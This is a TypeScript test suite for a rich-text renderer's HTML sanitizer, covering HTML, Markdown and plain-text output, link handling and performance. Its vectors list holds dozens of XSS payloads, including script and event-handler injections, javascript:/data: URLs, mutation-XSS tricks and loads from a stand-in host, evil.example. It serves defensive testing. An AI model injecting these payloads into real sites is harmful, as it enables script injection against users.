import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import * as fc from 'fast-check';
import { shortestBlock } from '../../../test/support/shortest-block.ts';
import { type RichTextFormat, renderRichText } from './render.ts';
import { linkAddresses, linkReferences } from './rich-text.ts';
import { tries } from '../../../test/support/short-run.ts';

const formats: RichTextFormat[] = ['text', 'html', 'commonmark'];

const tags =
  'address article aside footer header h1 h2 h3 h4 h5 h6 hgroup main nav section blockquote dd div dl dt figcaption ' +
  'figure hr li ol p pre ul a abbr b bdi bdo br cite code data dfn em i kbd mark q rb rp rt rtc ruby s samp small span ' +
  'strong sub sup time u var wbr caption col colgroup table tbody td tfoot th thead tr img del ins details summary';
const attributes =
  'title dir lang style href src alt width height colspan rowspan scope start reversed type value open datetime class';
const attribute = `(?: (?:${attributes.replaceAll(' ', '|')})(?:="[^"<>]*")?)`;
const safe = new RegExp(
  `^(?:[^<>]|<(?:${tags.replaceAll(' ', '|')})${attribute}* ?/?>|</(?:${tags.replaceAll(' ', '|')})>)*$`,
);
const entities: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' };

/** Checks that the output consists only of allowed tags and attributes. */
function assertSafe(html: string): void {
  for (const piece of html.match(/<[^>]*>?|[^<]+/g) ?? []) assert.match(piece, safe, html);
  // Ignores text between tags that only resembles an attribute.
  const tagsAlone = (html.match(/<[^>]*>/g) ?? []).join('');
  for (const [, address = ''] of tagsAlone.matchAll(/ (?:href|src)="([^"]*)"/g)) {
    // Browsers ignore blanks and control characters in front of a scheme.
    const read = address.replace(/&\w+;/g, (entity) => entities[entity] ?? entity).replace(/[\0-\x20]/g, '');
    const [, scheme = 'http'] = /^([a-z][a-z0-9+.-]*):/i.exec(read) ?? [];
    assert.match(scheme, /^(?:https?|ftp|mailto|tel)$/i, html);
  }
  for (const [, style = ''] of tagsAlone.matchAll(/ style="([^"]*)"/g)) {
    assert.match(style, /^(?:(?:color|background-color|text-align):[#\w(),.% ]+;?)+$/, html);
  }
}

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=1 srcset="javascript:alert(1) 2x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="x" onmouseover="alert(1)" style="x:expression(alert(1))">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="x" ping="//evil.example" target="_blank">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><form><input type=submit formaction=javascript:alert(1)></form></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select><option><script>alert(1)</script></option></select>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="color:red;position:fixed;top:0">x</div>',
  '<div style="color:expression(alert(1))">x</div>',
  '<div style="color:red\\;}</style><script>alert(1)</script>">x</div>',
  '<div id="location" name="forms" class="admin">x</div>',
  '<a id=x name=y href="#">x</a>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<b title="&quot;><script>alert(1)</script>">x</b>',
  "<b title='\"><script>alert(1)</script>'>x</b>",
  '<b/onclick=alert(1)>x',
  '<b onclick\n=\nalert(1)>x',
  '<<script>alert(1)//<</script>',
  '<script\u0000>alert(1)</script>',
  '<p title="`onmouseover=alert(1)`">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](x)',
  '[x](x "onmouseover=alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n[x]',
  '```html"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
];

describe('scripts are removed', () => {
  for (const vector of vectors) {
    test(JSON.stringify(vector), async () => {
      for (const format of formats) assertSafe(await renderRichText(vector, format));
    });
  }

  test('in random combinations', async () => {
    const piece = fc.oneof(
      fc.constantFrom(...vectors, '"', "'", '<', '>', '</', '&', '`', '\n', '<p>', '</p>'),
      fc.string(),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 5 }), fc.constantFrom(...formats), async (pieces, format) => {
        const html = await renderRichText(pieces.join(''), format);
        assertSafe(html);
        assertSafe(linkReferences(linkAddresses(html), () => '/goto?key=art&val=1'));
      }),
      { numRuns: tries(300) },
    );
  });

  test('rendering is idempotent', async () => {
    for (const vector of vectors) {
      const once = await renderRichText(vector, 'html');
      assert.equal(await renderRichText(once, 'html'), once);
    }
  });
});

test('the safety check detects unsafe output', () => {
  for (const bad of [
    '<script>',
    '<b onclick="x">',
    '<a href="javascript:x">',
    '<p style="position:fixed">',
    '<b',
    '<svg>',
  ]) {
    assert.throws(() => assertSafe(bad), assert.AssertionError, bad);
  }
});

test('plain text is escaped, and keeps its lines', async () => {
  assert.equal(await renderRichText('a < b & "c"\r\nd\ne', 'text'), 'a &lt; b &amp; &quot;c&quot;<br />\nd<br />\ne');
});

test('HTML keeps common formatting', async () => {
  const kept =
    '<h1>x</h1><p style="text-align:center"><strong>a</strong> <a href="https://example.com/?a=1&amp;b=2" title="t">b</a></p>' +
    '<table><tbody><tr><td colspan="2">c</td></tr></tbody></table><img src="/plugins/x.png" alt="d" />';
  assert.equal(await renderRichText(kept, 'html'), kept);
});

test('Markdown is rendered', async () => {
  assert.equal(
    await renderRichText('# T\n\n*a* **b** `c` ~~d~~ [e](/f)\n\n```js\ng\n```\n', 'commonmark'),
    '<h1>T</h1>\n<p><em>a</em> <strong>b</strong> <code>c</code> <s>d</s> <a href="/f">e</a></p>\n' +
      '<pre><code class="language-js">g\n</code></pre>\n',
  );
  assert.match(await renderRichText('|a|b|\n|-|:-:|\n|c|d|', 'commonmark'), /<td style="text-align:center">d<\/td>/);
  assert.match(await renderRichText('see https://example.com', 'commonmark'), /<a href="https:\/\/example\.com">/);
});

describe('references', () => {
  const resolve = ({ keyword, id }: { keyword: string; id: number }) =>
    ['art', 'story'].includes(keyword) ? `/goto?key=${keyword}&val=${id}&group_id=102` : undefined;
  const link = (keyword: string, id: number, text: string) =>
    `<a href="/goto?key=${keyword}&amp;val=${id}&amp;group_id=102" class="cross-reference">${text}</a>`;

  const linked: [html: string, expected: string][] = [
    ['see art #12.', `see ${link('art', 12, 'art #12')}.`],
    ['<p>Story#9</p>', `<p>${link('story', 9, 'Story#9')}</p>`],
    ['art #1, art #2', `${link('art', 1, 'art #1')}, ${link('art', 2, 'art #2')}`],
    ['<a href="/x">art #1</a> art #2', `<a href="/x">art #1</a> ${link('art', 2, 'art #2')}`],
    ['<code>art #1</code>', '<code>art #1</code>'],
    ['<pre><code>art #1</code> art #2</pre>', '<pre><code>art #1</code> art #2</pre>'],
    ['<b title="art #1">x</b>', '<b title="art #1">x</b>'],
    ['bug #1', 'bug #1'],
    ['&amp;art #1 &#12;', '&amp;art #1 &#12;'],
    ['&lt;art #1&gt;', `&lt;${link('art', 1, 'art #1')}&gt;`],
  ];
  for (const [html, expected] of linked) {
    test(`in ${html}`, () => assert.equal(linkReferences(html, resolve), expected));
  }
});

describe('addresses become links', () => {
  const link = (address: string) => `<a href="${address}">${address}</a>`;
  const linked: [content: string, format: RichTextFormat, html: string][] = [
    ['see https://example.com/a?b=1&c=2 now', 'text', `see ${link('https://example.com/a?b=1&amp;c=2')} now`],
    ['(http://example.com).', 'text', `(${link('http://example.com')}).`],
    [
      'https://example.com/a_(b), "https://x.org"',
      'text',
      `${link('https://example.com/a_(b)')}, &quot;${link('https://x.org')}&quot;`,
    ],
    ['<https://x.org/#art>', 'text', `&lt;${link('https://x.org/#art')}&gt;`],
    ['javascript://x.org https:// http://...', 'text', 'javascript://x.org https:// http://...'],
    ['<p>a https://x.org/?a&b b</p>', 'html', `<p>a ${link('https://x.org/?a&amp;b')} b</p>`],
    ['<a href="https://y.org">https://x.org</a>', 'html', '<a href="https://y.org">https://x.org</a>'],
    [
      '<code>https://x.org</code><b title="https://x.org">b</b>',
      'html',
      '<code>https://x.org</code><b title="https://x.org">b</b>',
    ],
  ];
  for (const [content, format, html] of linked) {
    test(`in ${content}`, async () => assert.equal(linkAddresses(await renderRichText(content, format)), html));
  }
});

test('large and hostile texts are rendered quickly', async () => {
  const filled = (text: string) => text.repeat(Math.ceil(65_000 / text.length));
  const hostile = [
    '![',
    '[',
    '*a_ ',
    '<',
    '<div>',
    'art #1 ',
    'a#',
    'a_',
    '<!--',
    '![a](',
    'http://',
    ')',
    'https://x.org/).',
    '|a|b|c|d\n|-|-|-|-\n',
  ];
  for (const text of hostile) {
    for (const format of ['html', 'commonmark'] as const) {
      const { longest } = await shortestBlock(100, async () => {
        linkReferences(linkAddresses(await renderRichText(filled(text), format)), () => '/x');
      });
      // Rendering takes up to a second, in its own thread. Links take a few milliseconds here.
      assert.ok(longest < 100, `${JSON.stringify(text)} as ${format}: ${longest} ms`);
    }
  }
});
